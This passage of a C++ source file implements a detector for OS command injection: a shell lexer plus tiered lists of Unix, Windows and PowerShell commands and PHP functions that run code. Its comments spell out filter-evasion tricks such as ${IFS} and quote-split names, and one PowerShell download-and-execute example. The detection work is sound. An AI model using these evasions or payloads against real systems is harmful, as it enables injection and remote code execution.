// OS command injection.
//
// A small shell lexer finds the places where a shell starts a new command:
// after ; | || && & and newlines, inside `...` and $(...), <(...) and >(...),
// and in brace expansions {cmd,arg}. The word there is read the way a shell
// would after quote removal and empty expansions (c''at, c\at, "w"hoami,
// w$@hoami, ${IFS} and $IFS$9 as blanks, /usr/bin/id, cmd.exe), and looked up
// in a list of Unix and Windows commands grouped by how likely the name is to
// occur in prose. The separator's strength (a ';' is code, " & " between two
// words is English) and the shape of the next argument (a flag, a path, a
// URL, an environment variable) decide. Linear: each command position reads a
// bounded word.
#include <algorithm>
#include <array>
#include <cstdint>
#include <initializer_list>
#include <string>
#include <string_view>

#include "runtime/detect/ascii_scan.h"
#include "runtime/detect/detector.h"
#include "runtime/detect/fill_match.h"
#include "runtime/detect/word_table.h"

namespace fnguard::detect {
namespace {

using scan::IAt;
using scan::IsAlnum;
using scan::IsAlpha;
using scan::IsDigit;
using scan::Lower;

// kTool: names that are almost never English words; flagged after any real
// separator. kShort: command names that are short words or abbreviations;
// flagged after a real separator when nothing wordy follows. kWord: ordinary
// English words; flagged only with a shell-shaped argument.
enum class Tier : uint8_t { kNone = 0, kTool, kShort, kWord };

// Every command name and its tier.
constexpr WordEntry<Tier> kCommands[] = {
    {"%comspec%", Tier::kTool},
    {"adduser", Tier::kTool},
    {"arp", Tier::kShort},
    {"awk", Tier::kShort},
    {"base32", Tier::kTool},
    {"base64", Tier::kTool},
    {"bash", Tier::kTool},
    {"bitsadmin", Tier::kTool},
    {"busybox", Tier::kTool},
    {"cat", Tier::kShort},
    {"certutil", Tier::kTool},
    {"chattr", Tier::kTool},
    {"chmod", Tier::kTool},
    {"chown", Tier::kTool},
    {"cmd", Tier::kTool},
    {"copy", Tier::kWord},
    {"cp", Tier::kShort},
    {"crontab", Tier::kTool},
    {"cscript", Tier::kTool},
    {"csh", Tier::kTool},
    {"curl", Tier::kTool},
    {"dash", Tier::kWord},
    {"date", Tier::kWord},
    {"del", Tier::kWord},
    {"df", Tier::kShort},
    {"dig", Tier::kShort},
    {"dir", Tier::kShort},
    {"du", Tier::kShort},
    {"echo", Tier::kShort},
    {"env", Tier::kShort},
    {"eval", Tier::kShort},
    {"exec", Tier::kShort},
    {"expr", Tier::kShort},
    {"false", Tier::kWord},
    {"find", Tier::kWord},
    {"finger", Tier::kWord},
    {"ftp", Tier::kShort},
    {"gcc", Tier::kShort},
    {"getent", Tier::kTool},
    {"grep", Tier::kShort},
    {"gzip", Tier::kShort},
    {"head", Tier::kWord},
    {"history", Tier::kWord},
    {"host", Tier::kWord},
    {"hostname", Tier::kShort},
    {"id", Tier::kShort},
    {"ifconfig", Tier::kTool},
    {"ipconfig", Tier::kTool},
    {"iex", Tier::kShort},
    {"invoke-expression", Tier::kTool},
    {"invoke-restmethod", Tier::kTool},
    {"invoke-webrequest", Tier::kTool},
    {"irm", Tier::kShort},
    {"iwr", Tier::kTool},
    {"ltrace", Tier::kTool},
    {"nice", Tier::kWord},
    {"setsid", Tier::kTool},
    {"start-process", Tier::kTool},
    {"stdbuf", Tier::kTool},
    {"strace", Tier::kTool},
    // PowerShell cmdlets that wait, read or write files, list processes
    // and users, run code or reach the network (verb-noun names that no
    // prose uses).
    {"start-sleep", Tier::kTool},
    {"get-content", Tier::kTool},
    {"set-content", Tier::kTool},
    {"add-content", Tier::kTool},
    {"get-childitem", Tier::kTool},
    {"remove-item", Tier::kTool},
    {"copy-item", Tier::kTool},
    {"invoke-command", Tier::kTool},
    {"invoke-item", Tier::kTool},
    {"new-object", Tier::kTool},
    {"get-process", Tier::kTool},
    {"stop-process", Tier::kTool},
    {"get-wmiobject", Tier::kTool},
    {"get-ciminstance", Tier::kTool},
    {"test-connection", Tier::kTool},
    {"resolve-dnsname", Tier::kTool},
    {"get-localuser", Tier::kTool},
    {"get-acl", Tier::kTool},
    {"java", Tier::kWord},
    {"kill", Tier::kWord},
    {"killall", Tier::kTool},
    {"ksh", Tier::kTool},
    {"last", Tier::kWord},
    {"lastlog", Tier::kTool},
    {"less", Tier::kWord},
    {"ls", Tier::kShort},
    {"lsb_release", Tier::kTool},
    {"lsof", Tier::kTool},
    {"lua", Tier::kShort},
    {"mkdir", Tier::kShort},
    {"mkfifo", Tier::kTool},
    {"more", Tier::kWord},
    {"mshta", Tier::kTool},
    {"mv", Tier::kShort},
    {"nc", Tier::kTool},
    {"ncat", Tier::kTool},
    {"net", Tier::kWord},
    {"netcat", Tier::kTool},
    {"netsh", Tier::kTool},
    {"netstat", Tier::kTool},
    {"nl", Tier::kShort},
    {"nmap", Tier::kTool},
    {"node", Tier::kWord},
    {"nohup", Tier::kTool},
    {"nslookup", Tier::kTool},
    {"od", Tier::kShort},
    {"openssl", Tier::kShort},
    {"passwd", Tier::kTool},
    {"perl", Tier::kShort},
    {"php", Tier::kShort},
    {"phpinfo", Tier::kTool},
    {"ping", Tier::kShort},
    {"pkill", Tier::kTool},
    {"powershell", Tier::kTool},
    {"printenv", Tier::kTool},
    {"printf", Tier::kShort},
    {"ps", Tier::kShort},
    {"pwd", Tier::kShort},
    {"pwsh", Tier::kTool},
    {"python", Tier::kShort},
    {"python2", Tier::kTool},
    {"python3", Tier::kTool},
    {"reg", Tier::kWord},
    {"regsvr32", Tier::kTool},
    {"rm", Tier::kShort},
    {"rmdir", Tier::kShort},
    {"route", Tier::kWord},
    {"rsync", Tier::kShort},
    {"rev", Tier::kWord},
    {"ruby", Tier::kShort},
    {"rundll32", Tier::kTool},
    {"scp", Tier::kShort},
    {"sed", Tier::kShort},
    {"set", Tier::kWord},
    {"sh", Tier::kTool},
    {"sleep", Tier::kShort},
    {"socat", Tier::kTool},
    {"sort", Tier::kWord},
    {"ssh", Tier::kShort},
    {"sudo", Tier::kTool},
    {"sysinfo", Tier::kTool},
    {"systeminfo", Tier::kTool},
    {"tac", Tier::kShort},
    {"tail", Tier::kWord},
    {"tar", Tier::kShort},
    {"taskkill", Tier::kTool},
    {"tasklist", Tier::kTool},
    {"tcsh", Tier::kTool},
    {"tee", Tier::kShort},
    {"telnet", Tier::kTool},
    {"tftp", Tier::kTool},
    {"time", Tier::kWord},
    {"timeout", Tier::kWord},
    {"touch", Tier::kWord},
    {"traceroute", Tier::kTool},
    {"tracert", Tier::kTool},
    {"true", Tier::kWord},
    {"type", Tier::kWord},
    {"uname", Tier::kTool},
    {"uniq", Tier::kShort},
    {"unset", Tier::kShort},
    {"unzip", Tier::kShort},
    {"uptime", Tier::kTool},
    {"useradd", Tier::kTool},
    {"usermod", Tier::kTool},
    {"ver", Tier::kWord},
    {"vol", Tier::kWord},
    {"wc", Tier::kShort},
    {"wget", Tier::kTool},
    {"whereis", Tier::kShort},
    {"which", Tier::kWord},
    {"whoami", Tier::kTool},
    {"wmic", Tier::kTool},
    {"wscript", Tier::kTool},
    {"xargs", Tier::kTool},
    {"xterm", Tier::kTool},
    {"xxd", Tier::kTool},
    {"zsh", Tier::kTool},
    // Administration, container, database and debugging tools and interpreters
    // that run other commands or read the system (GTFOBins, LOLBAS).
    {"gdb", Tier::kTool},
    {"irb", Tier::kTool},
    {"jjs", Tier::kTool},
    {"jrunscript", Tier::kTool},
    {"tclsh", Tier::kTool},
    {"gawk", Tier::kTool},
    {"mawk", Tier::kTool},
    {"nawk", Tier::kTool},
    {"visudo", Tier::kTool},
    {"systemctl", Tier::kTool},
    {"journalctl", Tier::kTool},
    {"hostnamectl", Tier::kTool},
    {"timedatectl", Tier::kTool},
    {"loginctl", Tier::kTool},
    {"kubectl", Tier::kTool},
    {"aws", Tier::kWord},
    {"gcloud", Tier::kTool},
    {"gsutil", Tier::kTool},
    {"crictl", Tier::kTool},
    {"podman", Tier::kTool},
    {"iptables", Tier::kTool},
    {"ip6tables", Tier::kTool},
    {"nft", Tier::kTool},
    {"tcpdump", Tier::kTool},
    {"tshark", Tier::kTool},
    {"dmesg", Tier::kTool},
    {"sysctl", Tier::kTool},
    {"chroot", Tier::kTool},
    {"nsenter", Tier::kTool},
    {"unshare", Tier::kTool},
    {"apt-get", Tier::kTool},
    {"dpkg", Tier::kTool},
    {"yum", Tier::kTool},
    {"dnf", Tier::kTool},
    {"zypper", Tier::kTool},
    {"ssh-keygen", Tier::kTool},
    {"ssh-keyscan", Tier::kTool},
    {"hexdump", Tier::kTool},
    {"readelf", Tier::kTool},
    {"objdump", Tier::kTool},
    {"lsmod", Tier::kTool},
    {"insmod", Tier::kTool},
    {"modprobe", Tier::kTool},
    {"rmmod", Tier::kTool},
    {"lsblk", Tier::kTool},
    {"lscpu", Tier::kTool},
    {"lsusb", Tier::kTool},
    {"lspci", Tier::kTool},
    {"lshw", Tier::kTool},
    {"smbclient", Tier::kTool},
    {"psql", Tier::kTool},
    {"sqlite3", Tier::kTool},
    {"redis-cli", Tier::kTool},
    {"mysql", Tier::kTool},
    {"mysqldump", Tier::kTool},
    {"pg_dump", Tier::kTool},
    {"mongosh", Tier::kTool},
    {"ldapsearch", Tier::kTool},
    {"zcat", Tier::kTool},
    {"bzip2", Tier::kTool},
    {"bunzip2", Tier::kTool},
    {"gunzip", Tier::kTool},
    {"lftp", Tier::kTool},
    {"chpasswd", Tier::kTool},
    {"chgrp", Tier::kTool},
    {"pkexec", Tier::kTool},
    {"htop", Tier::kTool},
    {"vmstat", Tier::kTool},
    {"iostat", Tier::kTool},
    {"ifup", Tier::kTool},
    {"ifdown", Tier::kTool},
    {"nmcli", Tier::kTool},
    {"iwconfig", Tier::kTool},
    {"arping", Tier::kTool},
    {"ping6", Tier::kTool},
    {"runuser", Tier::kTool},
    {"setfacl", Tier::kTool},
    {"getfacl", Tier::kTool},
    {"tmux", Tier::kTool},
    {"mkfs", Tier::kTool},
    {"fdisk", Tier::kTool},
    {"losetup", Tier::kTool},
    {"cryptsetup", Tier::kTool},
    {"nproc", Tier::kTool},
    {"pgrep", Tier::kTool},
    {"pstree", Tier::kTool},
    {"fuser", Tier::kTool},
    {"umount", Tier::kTool},
    {"poweroff", Tier::kTool},
    {"msfconsole", Tier::kTool},
    {"msfvenom", Tier::kTool},
    {"sqlmap", Tier::kTool},
    {"hashcat", Tier::kTool},
    {"mimikatz", Tier::kTool},
    {"lastlogin", Tier::kTool},
    {"schtasks", Tier::kTool},
    {"icacls", Tier::kTool},
    {"cacls", Tier::kTool},
    {"findstr", Tier::kTool},
    {"forfiles", Tier::kTool},
    {"msiexec", Tier::kTool},
    {"bcdedit", Tier::kTool},
    {"bcdboot", Tier::kTool},
    {"vssadmin", Tier::kTool},
    {"wevtutil", Tier::kTool},
    {"nltest", Tier::kTool},
    {"dsquery", Tier::kTool},
    {"robocopy", Tier::kTool},
    {"xcopy", Tier::kTool},
    {"diskpart", Tier::kTool},
    {"esentutl", Tier::kTool},
    {"ntdsutil", Tier::kTool},
    {"makecab", Tier::kTool},
    {"extrac32", Tier::kTool},
    {"qwinsta", Tier::kTool},
    {"quser", Tier::kTool},
    {"wusa", Tier::kTool},
    {"fsutil", Tier::kTool},
    {"takeown", Tier::kTool},
    {"cmstp", Tier::kTool},
    {"installutil", Tier::kTool},
    {"regasm", Tier::kTool},
    {"regsvcs", Tier::kTool},
    {"msbuild", Tier::kTool},
    {"odbcconf", Tier::kTool},
    {"certreq", Tier::kTool},
    {"vi", Tier::kWord},
    {"vim", Tier::kShort},
    {"emacs", Tier::kShort},
    {"nano", Tier::kShort},
    {"docker", Tier::kShort},
    {"git", Tier::kShort},
    {"svn", Tier::kShort},
    {"npm", Tier::kShort},
    {"pip", Tier::kShort},
    {"dd", Tier::kWord},
    {"ln", Tier::kWord},
    {"tr", Tier::kWord},
    {"seq", Tier::kShort},
    {"xz", Tier::kWord},
    {"7z", Tier::kWord},
    {"mtr", Tier::kShort},
    {"ss", Tier::kWord},
    {"whois", Tier::kShort},
    {"sftp", Tier::kShort},
    {"rpm", Tier::kShort},
    {"apk", Tier::kShort},
    {"doas", Tier::kShort},
    {"comm", Tier::kShort},
    {"attrib", Tier::kShort},
    {"wsl", Tier::kShort},
    {"cmake", Tier::kShort},
    {"reboot", Tier::kShort},
    {"mount", Tier::kWord},
    {"shutdown", Tier::kWord},
    {"halt", Tier::kWord},
    {"apt", Tier::kWord},
    {"ansible", Tier::kTool},
    {"ansible-playbook", Tier::kTool},
    {"ansible-console", Tier::kTool},
    {"ansible-pull", Tier::kTool},
    {"chef-client", Tier::kTool},
    {"chef-shell", Tier::kTool},
    {"cpulimit", Tier::kTool},
    {"c89", Tier::kTool},
    {"c99", Tier::kTool},
    {"rmt", Tier::kTool},
    {"flock", Tier::kWord},
    {"perf", Tier::kWord},
    {"cd", Tier::kWord},
};

constexpr WordTable<Tier, 1024> kCommandTable(kCommands);
static_assert(kCommandTable.size() * 2 <= 1024);

Tier LookupCommand(std::string_view name) { return kCommandTable.Find(name, Tier::kNone); }

// Commands that Windows resolves case-insensitively (cmd.exe built-ins and
// programs shipped with Windows). Every other name is looked up the way a
// Unix shell does, case-sensitively: "LS" and "Id" name no program, while
// "DIR" and "WhoAmI" run.
constexpr WordEntry<bool> kWindowsCommands[] = {
    {"%comspec%", true},
    {"arp", true},
    {"bitsadmin", true},
    {"certutil", true},
    {"cmd", true},
    {"copy", true},
    {"cscript", true},
    {"curl", true},
    {"date", true},
    {"del", true},
    {"dir", true},
    {"echo", true},
    {"find", true},
    {"finger", true},
    {"ftp", true},
    {"hostname", true},
    {"iex", true},
    {"invoke-expression", true},
    {"invoke-restmethod", true},
    {"invoke-webrequest", true},
    {"irm", true},
    {"iwr", true},
    {"start-process", true},
    {"start-sleep", true},
    {"get-content", true},
    {"set-content", true},
    {"add-content", true},
    {"get-childitem", true},
    {"remove-item", true},
    {"copy-item", true},
    {"invoke-command", true},
    {"invoke-item", true},
    {"new-object", true},
    {"get-process", true},
    {"stop-process", true},
    {"get-wmiobject", true},
    {"get-ciminstance", true},
    {"test-connection", true},
    {"resolve-dnsname", true},
    {"get-localuser", true},
    {"get-acl", true},
    {"ipconfig", true},
    {"more", true},
    {"mshta", true},
    {"net", true},
    {"netsh", true},
    {"netstat", true},
    {"nslookup", true},
    {"ping", true},
    {"powershell", true},
    {"pwsh", true},
    {"reg", true},
    {"regsvr32", true},
    {"route", true},
    {"rundll32", true},
    {"set", true},
    {"sort", true},
    {"systeminfo", true},
    {"tar", true},
    {"taskkill", true},
    {"tasklist", true},
    {"telnet", true},
    {"tftp", true},
    {"time", true},
    {"timeout", true},
    {"tracert", true},
    {"type", true},
    {"ver", true},
    {"vol", true},
    {"whoami", true},
    {"wmic", true},
    {"wscript", true},
    {"schtasks", true},
    {"icacls", true},
    {"cacls", true},
    {"findstr", true},
    {"forfiles", true},
    {"msiexec", true},
    {"bcdedit", true},
    {"bcdboot", true},
    {"vssadmin", true},
    {"wevtutil", true},
    {"nltest", true},
    {"dsquery", true},
    {"robocopy", true},
    {"xcopy", true},
    {"diskpart", true},
    {"esentutl", true},
    {"ntdsutil", true},
    {"makecab", true},
    {"extrac32", true},
    {"qwinsta", true},
    {"quser", true},
    {"wusa", true},
    {"fsutil", true},
    {"takeown", true},
    {"cmstp", true},
    {"installutil", true},
    {"regasm", true},
    {"regsvcs", true},
    {"msbuild", true},
    {"odbcconf", true},
    {"certreq", true},
    {"attrib", true},
    {"shutdown", true},
    {"wsl", true},
};
constexpr WordTable<bool, 256> kWindowsCommandTable(kWindowsCommands);
static_assert(kWindowsCommandTable.size() * 2 <= 256);

// The bytes the separator loop in Inspect() acts on besides the line breaks
// '\n' and '\r'; every other byte is skipped without entering its switch.
constexpr std::string_view kPrintableSeparators = ";`|&$<>{\\";
constexpr std::array<bool, 256> MakeSeparatorBytes() {
  std::array<bool, 256> t{};
  for (char c : kPrintableSeparators) t[static_cast<unsigned char>(c)] = true;
  t['\n'] = true;
  t['\r'] = true;
  return t;
}
constexpr std::array<bool, 256> kSeparatorByte = MakeSeparatorBytes();

// The bytes that end a shell word: the shell's metacharacters (blanks, the
// control operators ; | & ( ) and the redirections < >), newlines, and '`',
// which starts a substitution. '+' is a blank in form-encoded values. Inside
// a brace expansion {cmd,arg} ',', '}' and '{' (a nested expansion, read at
// its own brace) end a word too; elsewhere '{', '}', ',' and '#' glued to a
// word are part of it ("od{x" and "id#" name no program).
constexpr std::string_view kWordEnds = " \t+;|&<>()`\n\r";

// ReadWord()'s byte classes for CmdiImpl::CannotBeCommand(): bytes that end
// a word (EndsWord), bytes ReadWord() treats specially, '/', and the bytes
// that end a word only inside a brace expansion.
constexpr uint8_t kStopEnd = 1, kStopSpecial = 2, kStopSlash = 3, kStopGlob = 4, kStopBrace = 5;
constexpr std::array<uint8_t, 256> MakeWordStops() {
  std::array<uint8_t, 256> t{};
  for (char c : kWordEnds) t[static_cast<unsigned char>(c)] = kStopEnd;
  t[','] = kStopBrace;
  t['}'] = kStopBrace;
  t['{'] = kStopBrace;
  for (char c : std::string_view("'\"$\\^[")) t[static_cast<unsigned char>(c)] = kStopSpecial;
  t['?'] = kStopGlob;
  t['*'] = kStopGlob;
  t['/'] = kStopSlash;
  return t;
}
constexpr std::array<uint8_t, 256> kWordStop = MakeWordStops();

// How a command position was reached.
enum class Context : uint8_t {
  kStart,         // beginning of the value
  kStrong,        // ; && || and unambiguous | &
  kWeak,          // newline, or " | " / " & " between words (prose-like)
  kSubstitution,  // `...`, $(...), <(...), >(...), {cmd,arg}
  kCodeSpan,      // `...` that may be markdown inline code
};

// The next argument's shape.
enum class ArgShape : uint8_t {
  kWordy = 0,  // a plain word follows: prose
  kEnd,        // nothing follows
  kSeparator,  // another separator or a closing quote follows
  kLineEnd,    // the command is alone on its line
  kShell,      // flag, path, URL, variable, redirection, glob
  kInvalid,    // cannot continue a command line: '(' after the name ("sh(" and
               // "ls (" are syntax errors), an operator or redirection followed
               // by symbols ("id|6vJg", "wc>at,gL[")
};

constexpr size_t kMaxWord = 64;
constexpr size_t kMaxWordScan = 256;

struct Word {
  char plain[kMaxWord];  // quotes, backslashes and empty expansions removed
  size_t plain_len = 0;
  char split[kMaxWord];  // as `plain` but with '\' kept as a directory separator
  size_t split_len = 0;
  uint64_t plain_upper = 0;  // bit k: plain[k] was an upper-case letter
  uint64_t split_upper = 0;  // the same for split[k]
  static_assert(kMaxWord <= 64);
  size_t end = 0;        // position after the word in the value
  bool too_long = false;
  bool glob = false;     // contains ? or * globs
  bool named_variable = false;  // a "$name" inside the letters was taken as empty
  bool caret = false;           // a cmd.exe '^' between the letters was dropped
};

// True when `v` at `p` is the two-byte escape "\n" or "\r" for a line break.
bool IsLiteralLineBreak(std::string_view v, size_t p) {
  return p + 1 < v.size() && v[p] == '\\' && (v[p + 1] == 'n' || v[p + 1] == 'r');
}

// Whether the value's first two lines are rows of a pipe-delimited table
// ("id|name|price" then "7|Cafe|3.50"): the same number (two or more) of
// '|' on each, and no other shell operator. (A header's first cell may
// name a command; a pipeline's next line has no reason to repeat its
// shape.)
bool PipeDelimitedTable(std::string_view v) {
  const size_t nl = v.find('\n');
  if (nl == std::string_view::npos) return false;
  size_t end = v.find('\n', nl + 1);
  if (end == std::string_view::npos) end = v.size();
  const auto pipes = [&](size_t from, size_t to) {
    int n = 0;
    for (size_t i = from; i < to; ++i) {
      const char c = v[i];
      if (c == ';' || c == '&' || c == '$' || c == '`' || c == '<' || c == '>') return -1;
      n += c == '|' && (i + 1 >= to || v[i + 1] != '|') && (i == from || v[i - 1] != '|');
    }
    return n;
  };
  const int head = pipes(0, nl);
  return head >= 2 && pipes(nl + 1, end) == head;
}

// True when a shell cannot run a command at `pos` whatever quote the value
// starts in (outside quotes, or inside '...' or "..." left open by the
// command line it is pasted into): in each reading either `pos` is inside
// quotes, or its line has a word glued to '(' outside quotes ("G(6",
// "x(y"), a syntax error that makes bash run nothing of the line.
// "name()" (a function definition) is allowed. Random strings full of
// symbols are caught by this; command lines are not. Reads the line
// around `pos`, at most 4 KiB each way.
// `whole_line`: the value is read as a command line of its own (the command
// at its start), so in the reading outside quotes a quote it leaves open at
// its end is a syntax error too ("rm -rf is dangerous, don't run it": the
// shell runs nothing of a line whose quote never closes). A value pasted
// after a separator may leave a quote open for the command line around it
// to close, so there the open quote counts for nothing.
bool CannotRunAt(std::string_view v, size_t pos, bool whole_line) {
  size_t ls = pos;
  while (ls > 0 && v[ls - 1] != '\n' && v[ls - 1] != '\r' && pos - ls < 4096) --ls;
  size_t le = pos;
  while (le < v.size() && v[le] != '\n' && v[le] != '\r' && le - pos < 4096) ++le;
  for (char start_quote : {'\0', '\'', '"'}) {
    char quote = start_quote;
    bool quoted_at_pos = start_quote != 0 && pos == ls;
    bool error = false;
    for (size_t k = ls; k < le && !error; ++k) {
      if (k == pos) quoted_at_pos = quote != 0;
      const char c = v[k];
      if (quote == '\'') {
        if (c == '\'') quote = 0;
        continue;
      }
      if (c == '\\') {
        if (k + 1 == pos) quoted_at_pos = quote != 0;
        ++k;  // escapes the next byte outside '...'
        continue;
      }
      if (quote == '"') {
        if (c == '"') quote = 0;
        continue;
      }
      if (c == '\'' || c == '"') {
        quote = c;
        continue;
      }
      if (c == '(' && k > ls && (IsAlnum(v[k - 1]) || v[k - 1] == '_') &&
          !(k + 1 < le && v[k + 1] == ')')) {
        error = true;
      }
    }
    if (whole_line && start_quote == 0 && quote != 0 && le == v.size()) error = true;
    if (!error && !quoted_at_pos) return false;  // this reading runs it
  }
  return true;
}

// Windows' command interpreters, which parse their command lines themselves.
bool IsWindowsShell(std::string_view name) {
  return name == "powershell" || name == "pwsh" || name == "cmd";
}

// PowerShell's cmdlets and their aliases, which take a parenthesized
// expression as an argument ("IEX(iwr http://x/r.ps1)").
bool IsPowerShellCommand(std::string_view name) {
  return scan::IEqualsAny(name, {"iex", "iwr", "irm"}) || scan::IAt(name, 0, "invoke-") ||
         scan::IAt(name, 0, "start-") || scan::IAt(name, 0, "new-object");
}

// PHP's functions that run a command or code they are given, and those that
// decode a string (the layers code is hidden under).
constexpr std::string_view kPhpRunners[] = {"system",  "passthru",       "shell_exec", "exec",
                                            "popen",   "proc_open",      "pcntl_exec", "assert",
                                            "phpinfo", "create_function"};
constexpr std::string_view kPhpDecoders[] = {
    "base64_decode", "str_rot13", "strrev",    "hex2bin",      "gzinflate",
    "gzuncompress",  "gzdecode",  "urldecode", "rawurldecode", "convert_uudecode",
    "implode",       "pack",      "chr"};

// PHP's request superglobals, without their "$_" ("$_GET", "$_SERVER").
constexpr std::string_view kPhpSuperglobals[] = {"get",    "post", "request", "server",
                                                 "cookie", "env",  "files",   "session"};

// Whether a request superglobal's name (after "$_") starts at `p`; its length,
// or 0.
size_t PhpSuperglobalAt(std::string_view v, size_t p) {
  for (std::string_view name : kPhpSuperglobals) {
    if (scan::IAt(v, p, name)) return name.size();
  }
  return 0;
}

// The configuration directives that make PHP include remote or request code.
constexpr std::string_view kPhpIncludeDirectives[] = {"allow_url_include", "auto_prepend_file",
                                                      "auto_append_file"};

// PHP's functions that read or change files, the process and its settings,
// or dump the interpreter's state: what a probe calls once it runs code
// ("scandir('/')", "php_uname()", "var_dump(get_defined_vars())"). They run
// nothing themselves, so they count only as a statement of their own.
constexpr std::string_view kPhpFileFunctions[] = {
    "fopen",    "fwrite",      "fputs",           "file_get_contents",
    "readfile", "fpassthru",   "unlink",          "rmdir",
    "mkdir",    "copy",        "rename",          "chmod",
    "chown",    "touch",       "tempnam",         "scandir",
    "glob",     "opendir",     "getcwd",          "chdir",
    "realpath", "is_writable", "disk_free_space", "sys_get_temp_dir"};
constexpr std::string_view kPhpProcessFunctions[] = {
    "getenv",        "putenv",         "posix_getpwuid",
    "posix_getuid",  "posix_geteuid",  "posix_kill",
    "posix_setuid",  "php_uname",      "phpversion",
    "getmypid",      "getmyuid",       "get_current_user",
    "fsockopen",     "pfsockopen",     "stream_socket_client",
    "socket_create", "curl_exec",      "dl",
    "apache_setenv", "__halt_compiler"};
constexpr std::string_view kPhpSettingFunctions[] = {
    "ini_get",   "ini_get_all",    "ini_set",           "ini_restore",
    "ini_alter", "set_time_limit", "ignore_user_abort", "error_reporting"};
constexpr std::string_view kPhpStateFunctions[] = {"get_defined_vars", "get_defined_functions",
                                                   "get_defined_constants"};
// These print what they are given, so they mean something only with an
// argument.
constexpr std::string_view kPhpDumpFunctions[] = {"var_dump", "print_r", "var_export",
                                                  "debug_zval_dump"};

bool IsPhpStatementFunction(std::string_view name) {
  return scan::IEqualsAny(name, kPhpFileFunctions) ||
         scan::IEqualsAny(name, kPhpProcessFunctions) ||
         scan::IEqualsAny(name, kPhpSettingFunctions) ||
         scan::IEqualsAny(name, kPhpStateFunctions) || scan::IEqualsAny(name, kPhpDumpFunctions);
}

// '+' is a space in form-encoded query strings that reach us undecoded.
bool IsBlank(char c) { return c == ' ' || c == '\t' || c == '+'; }

// Length of a ${IFS} / $IFS$9 / $IFS spelling at `p`, or 0.
size_t IfsLength(std::string_view v, size_t p) {
  if (p >= v.size() || v[p] != '$') return 0;
  if (IAt(v, p, "${ifs}")) return 6;
  if (IAt(v, p, "$ifs")) {
    size_t n = 4;
    if (p + 5 < v.size() + 1 && p + 4 < v.size() && v[p + 4] == '$' && p + 5 < v.size() &&
        IsDigit(v[p + 5])) {
      n = 6;
    }
    return n;
  }
  return 0;
}

// Length of a substring expansion at `p` that yields '/': the first
// character of a variable that always holds an absolute path
// ("${PATH:0:1}", "${HOME:0:1}"), or 0.
size_t SlashExpansionLength(std::string_view v, size_t p) {
  if (p + 2 >= v.size() || v[p + 1] != '{') return 0;
  for (std::string_view name : {"PATH", "HOME", "PWD", "OLDPWD", "SHELL"}) {
    if (v.compare(p + 2, name.size(), name) != 0) continue;
    const size_t q = p + 2 + name.size();
    if (v.compare(q, 5, ":0:1}") == 0) return q + 5 - p;
    if (v.compare(q, 6, ": 0:1}") == 0) return q + 6 - p;
  }
  return 0;
}

size_t SkipBlanks(std::string_view v, size_t p) {
  for (size_t guard = 0; p < v.size() && guard < kMaxWordScan; ++guard) {
    if (IsBlank(v[p])) {
      ++p;
      continue;
    }
    size_t ifs = IfsLength(v, p);
    if (ifs == 0) break;
    p += ifs;
  }
  return p;
}

// Where the run of blanks that ends at `at` starts, reading back at most
// `max` bytes.
size_t BlanksBefore(std::string_view v, size_t at, size_t max = std::string_view::npos) {
  size_t b = at;
  while (b > 0 && at - b < max && IsBlank(v[b - 1])) --b;
  return b;
}

bool EndsWord(char c, bool in_brace) {
  const uint8_t stop = kWordStop[static_cast<unsigned char>(c)];
  return stop == kStopEnd || (in_brace && stop == kStopBrace);
}

// A variable expansion by name: its name, and the length of the whole
// expansion ("$name" or "${name}"; 0 when there is none).
struct Variable {
  std::string_view name;
  size_t length = 0;
};

// The variable expansion at `p`, if any.
Variable VariableAt(std::string_view v, size_t p) {
  if (p + 1 >= v.size() || v[p] != '$') return {};
  const bool braced = v[p + 1] == '{';
  size_t q = p + (braced ? 2 : 1);
  if (q >= v.size() || !(IsAlpha(v[q]) || v[q] == '_')) return {};
  const size_t start = q;
  while (q < v.size() && q - start < kMaxWord && (IsAlnum(v[q]) || v[q] == '_')) ++q;
  const std::string_view name = v.substr(start, q - start);
  if (braced) {
    if (q >= v.size() || v[q] != '}') return {};
    ++q;
  }
  return {name, q - p};
}

// An empty command substitution at `p` with a letter after it: between a
// command's letters ("pi``ng") it expands to nothing and joins them.
bool EmptySubstitutionBeforeLetter(std::string_view v, size_t p) {
  return p + 2 < v.size() && v[p] == '`' && v[p + 1] == '`' && IsAlpha(v[p + 2]);
}

// Reads the shell word at `p` (after blanks); `in_brace` when the word is an
// element of a brace expansion.
Word ReadWord(std::string_view v, size_t p, bool in_brace = false) {
  Word w;
  size_t scanned = 0;
  while (p < v.size() && scanned < kMaxWordScan) {
    ++scanned;
    char c = v[p];
    if (w.plain_len > 0 && EmptySubstitutionBeforeLetter(v, p)) {
      p += 2;
      continue;
    }
    if (EndsWord(c, in_brace)) break;
    if (c == '\'' || c == '"') {
      // A quote before '}', ']' or ',' closes a JSON string that held the
      // command ({"arg":"x && whoami"}, a document sent as one value):
      // the sink gets the string without it.
      if (w.plain_len > 0 && p + 1 < v.size() && (v[p + 1] == '}' || v[p + 1] == ']' || v[p + 1] == ',')) {
        break;
      }
      ++p;
      continue;
    }
    if (c == '$') {
      if (IfsLength(v, p) > 0) break;
      // "${PATH:0:1}" is the first character of a variable that holds a
      // path: a '/' written without one ("${PATH:0:1}bin${PATH:0:1}id").
      if (const size_t n = SlashExpansionLength(v, p); n > 0) {
        if (w.plain_len < kMaxWord && w.split_len < kMaxWord) {
          w.plain[w.plain_len++] = '/';
          w.split[w.split_len++] = '/';
        } else {
          w.too_long = true;  // as for any other byte past the limit
        }
        p += n;
        continue;
      }
      if (p + 1 < v.size()) {
        char n = v[p + 1];
        // Empty expansions ($@, $*, $1, $! before any background job) join
        // a command's letters.
        if (n == '@' || n == '*' || IsDigit(n) || n == '!') {
          p += 2;
          continue;
        }
        // $$, $-, $_ and $? do not expand to nothing, but a command's
        // letters broken by one ("c$_at") are the same evasion tried.
        if ((n == '$' || n == '-' || n == '_' || n == '?') && p > 0 && IsAlpha(v[p - 1]) &&
            p + 2 < v.size() && IsAlpha(v[p + 2])) {
          p += 2;
          continue;
        }
        if ((n == '(' && p + 2 < v.size() && v[p + 2] == ')') ||
            (n == '{' && p + 2 < v.size() && v[p + 2] == '}')) {
          p += 3;
          continue;
        }
        // A variable named inside a command's letters ("uname$u", "n$u\c$u",
        // "cu${x}rl"): unset, it expands to nothing and joins them.
        if (w.plain_len > 0 && IsAlpha(v[p - 1])) {
          const size_t n_len = VariableAt(v, p).length;
          if (n_len > 0) {
            w.named_variable = true;
            p += n_len;
            continue;
          }
        }
      }
    }
    if (c == '\\') {
      // A backslash before a line break continues the line: the shell
      // removes both ("wh", '\\', a newline, "oami" is whoami).
